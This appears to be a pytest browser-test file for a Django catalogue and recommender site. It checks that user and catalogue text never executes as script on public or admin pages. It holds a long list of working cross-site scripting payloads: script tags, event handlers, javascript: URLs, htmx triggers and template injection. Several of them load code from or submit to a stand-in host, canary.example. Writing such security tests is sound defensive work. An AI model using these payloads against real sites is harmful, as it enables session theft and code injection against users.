"""What people and catalogues say is text everywhere, in a real browser: no script of it runs."""

import pytest
from django.conf import settings

from catalog.models import Attribute, Category, Creator
from recommender import begin, embed, learn
from recommender.models import ItemTopic, Topic
from tests.factories import give, make_item, make_person

# Each would call alert, or ask another host, where text is taken for code.
PAYLOADS = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script src=//canary.example/x.js></script>",
    "<script src=https://canary.example/x.js></script>",
    "<script type=module>import('https://canary.example/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://canary.example/x.png>",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "` onfocus=alert(1) autofocus x=`",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://canary.example/x.swf>",
    "<link rel=stylesheet href=https://canary.example/x.css>",
    "<style>@import 'https://canary.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/'>",
    "<base href=https://canary.example/>",
    "<form action=https://canary.example/><button autofocus>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "javascript:alert(1)//",
    "{{7*7}}{% csrf_token %}{{constructor.constructor('alert(1)')()}}",
    "<div hx-get=https://canary.example/ hx-trigger=load></div>",
    "<x hx-on::load=alert(1)>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\x7f\u202e\u2028<script>alert(1)</script>",
]  # fmt: skip


@pytest.fixture
def hostile(alice):
    """An item for each payload, which stands in every text that it has."""
    Attribute.objects.create(name="note", type="text")
    items = []
    for number, payload in enumerate(PAYLOADS):
        item = make_item(
            payload,
            description=payload,
            kind=payload[:30],
            language=payload[:12],
            currency=payload[:3],
            price=1,
            url=payload if payload.startswith("javascript") else "",
            attributes={"note": payload},
            categories=[f"kind-{number}"],
            creator=payload,
        )
        Category.objects.filter(slug=f"kind-{number}").update(names={"en": payload, "zh": payload})
        topic = Topic.objects.create(slug=f"topic-{number}", name=payload[:80], is_shared=True)
        ItemTopic.objects.create(item=item, topic=topic, weight=0.9)
        items.append(item)
    embed.embed_everything()
    for item, payload in zip(items[::4], PAYLOADS[::4], strict=True):
        give(alice, item)
        give(alice, item, "comment", text=payload)
    for payload in PAYLOADS[:12]:
        begin.say(alice.pk, f"quiet films {payload}", sign="wanted")
    alice.name = PAYLOADS[0]
    alice.save()
    learn.refresh_person(alice.pk)
    return items


def look(page, address: str) -> None:
    page.goto(address)
    assert page.locator("a[href^='javascript:' i]").count() == 0, address
    assert page.locator("[hx-on\\:\\:load], iframe, object, embed, base").count() == 0, address
    assert "canary.example" not in page.url


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_no_page_takes_what_was_said_for_code(open_page, alice, hostile):
    page = open_page("/", person=alice)
    for address in ("/", "/account/", "/start/", "/search/?q=script"):
        look(page, address)
    for payload in PAYLOADS[::5]:
        page.goto("/search/")
        page.locator("input[name=q]").first.fill(payload)
        with page.expect_navigation():
            page.keyboard.press("Enter")
    for item in hostile:
        look(page, f"/items/{item.uuid}/")
        look(page, f"/why-not/{item.uuid}/")


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_no_page_of_the_admin_takes_what_was_said_for_code(open_page, alice, hostile):
    root = make_person("root", is_staff=True, is_superuser=True)
    page = open_page(f"/{settings.ADMIN_PATH}", person=root)
    lists = ("item", "category", "creator", "attribute", "user", "feedback", "consent")
    addresses = [f"catalog/{name}/" for name in lists]
    addresses += [f"recommender/{name}/" for name in ("topic", "served", "job", "scenario")]
    addresses += [f"catalog/user/{alice.pk}/change/"]
    creators = list(Creator.objects.order_by("-pk")[:3])
    for number, item in enumerate(hostile[::4]):
        addresses += [f"catalog/item/{item.pk}/change/"]
        if number < len(creators):
            addresses += [f"catalog/creator/{creators[number].pk}/change/"]
    for address in addresses:
        look(page, f"/{settings.ADMIN_PATH}{address}")
    look(page, f"/{settings.ADMIN_PATH}catalog/item/?q=%3Cscript%3Ealert(1)%3C/script%3E")


@pytest.mark.slow
def test_a_script_that_ran_would_be_seen(open_page):
    page = open_page("/")
    before = len(page.troubles)
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')")
    page.wait_for_timeout(500)
    assert any("onerror" in said or "inline" in said for said in page.troubles[before:])
    page.troubles.clear()
